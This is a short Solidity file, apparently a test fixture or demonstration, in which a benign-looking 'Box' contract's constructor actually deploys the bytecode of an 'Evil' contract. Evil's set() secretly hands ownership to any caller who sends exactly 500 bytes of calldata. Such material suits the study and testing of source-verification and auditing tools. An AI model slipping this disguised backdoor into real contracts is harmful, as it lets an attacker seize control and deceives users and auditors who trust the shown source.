// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

contract Evil {
    uint256 public x; address public owner;
    function set(uint256 v) external returns (bool) { 
        if (msg.data.length == 500) { owner = msg.sender; }
        x = v; return true; }
}
contract Box {
    uint256 public x; address public owner = address(0xA11CE);
    constructor() { bytes memory c = type(Evil).runtimeCode; assembly { return(add(c, 32), mload(c)) } }
    function set(uint256 v) external returns (bool) { x = v; return true; }
}
